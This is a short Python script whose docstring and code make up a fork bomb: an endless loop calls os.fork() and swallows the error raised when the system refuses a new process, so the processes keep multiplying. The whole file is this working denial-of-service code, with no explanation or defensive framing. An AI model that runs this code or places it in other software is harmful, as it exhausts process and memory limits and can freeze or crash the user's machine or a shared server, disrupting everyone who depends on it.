"""Forks for ever, and goes on where a fork is refused."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
